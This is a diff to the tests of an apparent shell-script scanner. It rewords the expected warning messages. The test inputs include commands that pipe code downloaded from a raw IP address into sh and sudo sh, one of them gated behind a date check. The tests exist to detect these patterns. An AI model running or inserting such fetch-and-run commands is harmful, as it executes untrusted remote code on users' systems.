@@ -168,7 +168,7 @@ def test_a_hit_has_its_line_its_evidence_and_its_host() -> None:
         5,
         "curl -s http://203.0.113.5/x | sudo sh",
         "203.0.113.5",
-        "fetched code is piped into an interpreter; it comes from a raw address",
+        "the code is piped into an interpreter and comes from a raw IP address",
     )
 
 
@@ -203,7 +203,7 @@ def test_many_scripts_in_one_end_within_the_budget() -> None:
 
 def test_a_test_of_the_date_is_told() -> None:
     text = 'if [ "$(date +%Y%m%d)" -gt 20300101 ]; then\n  curl -s http://203.0.113.5/x | sh\nfi\n'
-    assert [hit.message.rpartition("; ")[2] for hit in check(text).hits] == ["the script tests the date"]
+    assert [hit.message.rpartition(", and ")[2] for hit in check(text).hits] == ["the script checks the date"]
 
 
 @FAST
